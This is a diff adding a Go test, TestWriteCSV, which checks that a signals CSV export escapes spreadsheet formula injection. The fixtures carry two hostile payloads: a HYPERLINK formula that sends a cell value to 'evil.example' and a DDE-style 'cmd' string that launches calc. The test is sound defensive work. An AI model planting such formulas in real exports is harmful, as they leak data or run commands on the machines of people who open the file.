@@ -3,10 +3,13 @@ package signal
 import (
 	"bufio"
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"path/filepath"
 	"regexp"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -357,5 +360,45 @@ func TestWriteTableIDs(t *testing.T) {
 				t.Errorf("width %d: row id %q names %d signals", width, id, matches)
 			}
 		}
+	}
+}
+
+// TestWriteCSV: one row per signal under the header, every cell as the JSON form says it
+// (lists joined by spaces), no control character and no cell a spreadsheet reads as a
+// formula; the golden file pins the layout.
+func TestWriteCSV(t *testing.T) {
+	signals := fixtures()
+	signals[0].Actor = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
+	signals[1].Summary = "@SUM(1+1)*cmd|' /C calc'!A0"
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, signals); err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "signals.csv", buf.Bytes())
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(signals)+1 || !slices.Equal(rows[0], CSVHeader) {
+		t.Fatalf("%d rows, header %v", len(rows), rows[0])
+	}
+	for i, row := range rows[1:] {
+		s := signals[i]
+		if row[0] != s.ID || row[1] != s.Level.String() || row[13] != strconv.Itoa(s.EventCount) || row[14] != strings.Join(s.EventIDs, " ") {
+			t.Errorf("row %d = %v, want signal %s", i, row, s.ID)
+		}
+		for j, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("row %d, %s: %q would run as a formula", i, CSVHeader[j], cell)
+			}
+			for _, r := range cell {
+				if unsafeRune(r) {
+					t.Errorf("row %d, %s: %q holds %U", i, CSVHeader[j], cell, r)
+				}
+			}
+		}
+	}
+	if !strings.Contains(rows[1][10], `'=HYPERLINK(`) {
+		t.Errorf("the formula actor is not shown as text: %q", rows[1][10])
 	}
 }
